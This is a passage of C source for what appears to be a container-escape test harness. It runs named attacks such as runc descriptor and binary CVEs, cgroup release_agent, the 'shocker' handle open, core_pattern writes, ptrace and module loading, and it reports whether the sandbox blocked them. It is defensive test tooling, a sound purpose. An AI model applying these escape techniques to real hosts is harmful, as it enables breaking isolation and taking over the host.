                    probe_entering(p, 1, got, sizeof got);
                }
                trace_detach(p);
            } else {
                enum exe_state s = exe_state(p, link, sizeof link);
                if (s == EXE_HOST || s == EXE_DENIED) {
                    early++;
                    probe_entering(p, 0, got, sizeof got);
                    if (!got[0])
                        denied_early++;
                }
            }
            if (got[0] && !won[0])
                snprintf(won, sizeof won, "%s", got);
            if (p >= next)
                next = p + 1;
        }
        if (spin % 4096 == 0) {
            /* Now and then the whole of /proc, for pids out of sequence. */
            int pids[4096];
            int n = list_pids(pids, 4096);
            for (int i = 0; i < n; i++) {
                if (pids[i] < (int)sizeof handled && !handled[pids[i]] && pids[i] != getpid()) {
                    handled[pids[i]] = 1;
                    entered++;
                    if (pids[i] >= next)
                        next = pids[i] + 1;
                }
            }
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (now.tv_sec - start.tv_sec >= opt.seconds || (opt.until != NULL && access(opt.until, F_OK) == 0))
                break;
        }
    }
    if (won[0])
        escaped(name, "%s (%d processes entered, %d seen before their execve)", won, entered, early);
    else if (entered == 0)
        blocked(name, "no process entered the container in %d s (nothing to attack: run exec meanwhile)", opt.seconds);
    else
        blocked(name, "%d processes entered, %d seen before their execve and all access to those refused (%d), "
                "the rest reached only after execve", entered, early, denied_early);
}

/* ---------------------------------------------------------------------------------------- */
/* The table                                                                                */

struct attack {
    const char *name;
    void (*fn)(const char *);
    int in_all;
    const char *what;  /* one line for `attack list` and docs/security.md */
};

static const struct attack attacks[] = {
    {"inherited-fd", a_inherited_fd, 1, "use a descriptor the runtime left open (CVE-2024-21626)"},
    {"cwd-outside", a_cwd_outside, 1, "start in a working directory outside the root and walk .. to the host's /"},
    {"host-namespaces", a_host_namespaces, 1, "share a mount, PID, network, IPC or UTS namespace with the host"},
    {"host-procs", a_host_procs, 1, "see a process of the host"},
    {"host-tcp", a_host_tcp, 1, "connect to a TCP service of the host (its loopback, or the default gateway)"},
    {"host-abstract", a_host_abstract, 1, "connect to an abstract unix socket of the host"},
    {"raw-socket", a_raw_socket, 1,
     "capture the host's traffic with a packet socket (allowed on the pod's own interfaces)"},
    {"read-kcore", a_read_kcore, 1, "read the kernel's memory through /proc/kcore"},
    {"read-masked", a_read_masked, 1, "read the masked /proc and /sys paths (keys, timer_list, firmware...)"},
    {"syslog", a_syslog, 1, "read the kernel log with syslog(2)"},
    {"mknod-kmsg", a_mknod_kmsg, 1, "make /dev/kmsg (1:11) and read the kernel log from it"},
    {"mknod-disk", a_mknod_disk, 1, "make a node for the host's disk and open it"},
    {"ioperm", a_ioperm, 1, "get direct access to an I/O port"},
    {"open-by-handle", a_open_by_handle, 1,
     "open the host filesystem's root by inode number through a volume (\"shocker\")"},
    {"proc-root", a_proc_root, 1, "reach the host's / through /proc/PID/root of a process outside the container"},
    {"ptrace", a_ptrace, 1, "PTRACE_ATTACH to a process outside the container"},
    {"setns", a_setns, 1, "setns(2) into a namespace through /proc/PID/ns"},
    {"unshare-user", a_unshare_user, 1,
     "make a user namespace (full capabilities over it: a large kernel attack surface)"},
    {"unshare-mount", a_unshare_mount, 1, "make a mount namespace"},
    {"ia32-syscall", a_ia32_syscall, 1,
     "call add_key through the i386 ABI (int 0x80), past a filter written for x86_64 only"},
    {"userfaultfd", a_userfaultfd, 1, "make a userfaultfd that handles kernel faults (an exploit primitive)"},
    {"bpf", a_bpf, 1, "create a BPF map and load a kprobe program"},
    {"perf-event", a_perf_event, 1, "open a CPU-wide perf event (every process on the CPU)"},
    {"keyring", a_keyring, 1, "add a key to uid 0's keyring, which the host's root shares"},
    {"init-module", a_init_module, 1, "load a kernel module with init_module"},
    {"finit-module", a_finit_module, 1, "load a kernel module with finit_module"},
    {"kexec-load", a_kexec_load, 1, "load a new kernel with kexec_load"},
    {"reboot", a_reboot, 1, "reboot(2) (CAD_OFF, harmless if it went through)"},
    {"swapon", a_swapon, 1, "add swap to the host"},
    {"set-clock", a_set_clock, 1, "set the host's clock (to its current value)"},
    {"hostname", a_hostname, 1, "change the host's hostname"},
    {"sysrq-trigger", a_sysrq_trigger, 1, "write /proc/sysrq-trigger"},
    {"sysctl-core-pattern", a_sysctl_core_pattern, 1, "write kernel.core_pattern (a |program there runs as host root)"},
    {"sysctl-panic-on-oops", a_sysctl_panic_on_oops, 1, "write kernel.panic_on_oops (a host-wide setting)"},
    {"write-sysfs", a_write_sysfs, 1, "write a host-wide sysfs file (uevent_helper, transparent hugepages)"},
    {"cgroup-escape", a_cgroup_escape, 1, "move itself to the top of a cgroup hierarchy mounted in the container"},
    {"write-ro-volume", a_write_ro_volume, 1, "write to a read-only hostPath volume"},
    {"chroot-escape", a_chroot_escape, 1, "the classic chroot escape (chroot, chdir .. many times, chroot .)"},
    {"mount-tmpfs", a_mount_tmpfs, 1, "mount a tmpfs"},
    {"mount-proc", a_mount_proc, 1, "mount a fresh procfs (no masks)"},
    {"mount-sysfs", a_mount_sysfs, 1, "mount a writable sysfs"},
    {"mount-cgroup", a_mount_cgroup, 1, "mount a cgroup hierarchy (v1 release_agent, CVE-2022-0492)"},
    {"remount-proc-sys", a_remount_proc_sys, 1, "remount the read-only /proc/sys read-write"},
    {"remount-volume", a_remount_volume, 1, "remount a read-only volume read-write"},
    {"overmount-mask", a_overmount_mask, 1, "bind-mount over a masked path"},
    {"umount-mask", a_umount_mask, 1, "unmount the mask over a /proc path"},
    {"watch-exec", a_watch_exec, 0,
     "attack a process entering with exec before its execve: ptrace, /proc/PID/mem, its binary (CVE-2019-5736), "
     "its descriptors"},
};
enum { N_ATTACKS = sizeof attacks / sizeof attacks[0] };

/* ---------------------------------------------------------------------------------------- */
/* report and listen                                                                        */

static int report(void)
{
    static const char *keys[] = {"CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh",
                                 "Seccomp", "Seccomp_filters", "NoNewPrivs"};
    char v[128];
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++)
        printf("%s: %s\n", keys[i], status_field("self", keys[i], v, sizeof v));
    printf("uid: %d\ngid: %d\neuid: %d\negid: %d\ngroups:", getuid(), getgid(), geteuid(), getegid());
    gid_t groups[256];
    int n = getgroups(256, groups);
    for (int i = 0; i < n; i++)
        printf("%s%d", i ? "," : " ", groups[i]);
    printf("\n");
    int fd = open("/.attack-root-probe", O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
    if (fd >= 0) {
        close(fd);
        unlink("/.attack-root-probe");
        printf("root: writable\n");
    } else {
        printf("root: not writable (%s)\n", en(errno));
    }
    printf("dumpable: %d\n", prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
    return 0;
}

static int listen_main(const char *tcp, const char *abstract, const char *comm)
{
    /* A caller that blocks SIGTERM (a test runner's threads) must still be able to stop us. */
    sigset_t none;
    sigemptyset(&none);
    sigprocmask(SIG_SETMASK, &none, NULL);
    signal(SIGTERM, SIG_DFL);
    if (comm)
        prctl(PR_SET_NAME, comm, 0, 0, 0);
    int fds[2] = {-1, -1};
    if (tcp) {
        char host[64];
        int port;
        struct sockaddr_in sa = {.sin_family = AF_INET};
        if (sscanf(tcp, "%63[^:]:%d", host, &port) != 2 || inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
            fprintf(stderr, "listen: bad --tcp %s\n", tcp);
            return 2;
        }
        sa.sin_port = htons((uint16_t)port);
        int one = 1;
        fds[0] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        setsockopt(fds[0], SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        socklen_t len = sizeof sa;
        if (bind(fds[0], (struct sockaddr *)&sa, sizeof sa) < 0 || listen(fds[0], 16) < 0 ||
            getsockname(fds[0], (struct sockaddr *)&sa, &len) < 0) {
            fprintf(stderr, "listen: %s: %s\n", tcp, strerror(errno));
            return 1;
        }
        printf("tcp %d\n", ntohs(sa.sin_port));
    }
    if (abstract) {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        size_t n = strlen(abstract);
        if (n > sizeof sa.sun_path - 2)
            n = sizeof sa.sun_path - 2;
        memcpy(sa.sun_path + 1, abstract, n);
        fds[1] = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (bind(fds[1], (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0 ||
            listen(fds[1], 16) < 0) {
            fprintf(stderr, "listen: @%s: %s\n", abstract, strerror(errno));
            return 1;
        }
        printf("abstract %s\n", abstract);
    }
    printf("ready\n");
    fflush(stdout);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        struct pollfd p[2] = {{.fd = fds[0], .events = POLLIN}, {.fd = fds[1], .events = POLLIN}};
        int r = poll(p, 2, 1000);
        for (int i = 0; r > 0 && i < 2; i++) {
            if (p[i].revents & POLLIN) {
                int c = accept4(fds[i], NULL, NULL, SOCK_CLOEXEC);
                if (c >= 0) {
                    (void)!write(c, "peapod-attack-host\n", 19);
                    close(c);
                }
            }
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= opt.seconds)
            return 0;
    }
}

/* ---------------------------------------------------------------------------------------- */

static void usage(void)
{
    fprintf(stderr, "usage: attack all|list|report|watch-exec|NAME... [--marker PATH] [--host-proc COMM] "
                    "[--host-ns T:INO,...] [--connect ADDR:PORT] [--abstract NAME] [--try-gateway] [--seconds N] "
                    "[--until PATH]\n"
                    "       attack listen [--tcp ADDR:PORT] [--abstract NAME] [--name COMM] [--seconds N]\n");
}

int main(int argc, char **argv)
{
    /* Before anything opens a descriptor: what the runtime left open. */
    for (int fd = 3; fd < 1024 && inherited_count < 64; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            inherited[inherited_count++] = fd;
    start_cwd = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    setvbuf(stdout, NULL, _IOLBF, 0);

    const char *names[N_ATTACKS + 8];
    int n_names = 0;
    const char *tcp = NULL, *comm = NULL;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--marker") == 0 && v) opt.marker = v, i++;
        else if (strcmp(a, "--host-proc") == 0 && v) opt.host_proc = v, i++;
        else if (strcmp(a, "--host-ns") == 0 && v) opt.host_ns = v, i++;
        else if (strcmp(a, "--connect") == 0 && v && opt.connect_count < 8) opt.connect[opt.connect_count++] = v, i++;
        else if (strcmp(a, "--abstract") == 0 && v) opt.abstract = v, i++;
        else if (strcmp(a, "--try-gateway") == 0) opt.try_gateway = 1;
        else if (strcmp(a, "--seconds") == 0 && v) opt.seconds = atoi(v), i++;
        else if (strcmp(a, "--until") == 0 && v) opt.until = v, i++;
        else if (strcmp(a, "--tcp") == 0 && v) tcp = v, i++;
        else if (strcmp(a, "--name") == 0 && v) comm = v, i++;
        else if (a[0] == '-') { usage(); return 125; }
        else if (n_names < N_ATTACKS + 8) names[n_names++] = a;
    }
    if (n_names == 0) {
        usage();
        return 125;
    }
    if (strcmp(names[0], "report") == 0)
        return report();
    if (strcmp(names[0], "listen") == 0)
        return listen_main(tcp, opt.abstract, comm);
    if (strcmp(names[0], "list") == 0) {
        for (int i = 0; i < N_ATTACKS; i++)
            printf("%s: %s%s\n", attacks[i].name, attacks[i].what, attacks[i].in_all ? "" : " (not in all)");
        return 0;
    }

    char v[32];
    const char *mode = status_field("self", "Seccomp", v, sizeof v);
    seccomp_mode = mode[0] ? atoi(mode) : -1;
    stat("/", &root_st);
    char exe[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[n > 0 ? n : 0] = '\0';
    char *slash = strrchr(exe, '/');
    snprintf(self_dir, sizeof self_dir, "%.*s", slash && slash != exe ? (int)(slash - exe) : 1, slash ? exe : "/");
    static const char *scratch_bases[] = {"/tmp", "/dev", "/dev/shm", "/run"};
    for (size_t i = 0; i < sizeof scratch_bases / sizeof scratch_bases[0]; i++) {
        snprintf(scratch, sizeof scratch, "%s/.attack-XXXXXX", scratch_bases[i]);
        if (mkdtemp(scratch) != NULL)
            break;
        scratch[0] = '\0';
    }

    int total = 0;
    for (int k = 0; k < n_names; k++) {
        int all = strcmp(names[k], "all") == 0, found = 0;
        for (int i = 0; i < N_ATTACKS; i++) {
            if ((all && attacks[i].in_all) || strcmp(names[k], attacks[i].name) == 0) {
                attacks[i].fn(attacks[i].name);
                found = 1;
                total++;
            }
        }
        if (!found) {
            fprintf(stderr, "attack: no attack named %s\n", names[k]);
            return 125;
        }
    }
    if (scratch[0]) {
        char mp[PATH_MAX + 4];
        snprintf(mp, sizeof mp, "%s/m", scratch);
        rmdir(mp);
        rmdir(scratch);
    }
    printf("SUMMARY %d attacks: %d blocked, %d escaped, %d skipped\n", total, n_blocked, n_escaped, n_skipped);
    return n_escaped > 100 ? 100 : n_escaped;
}
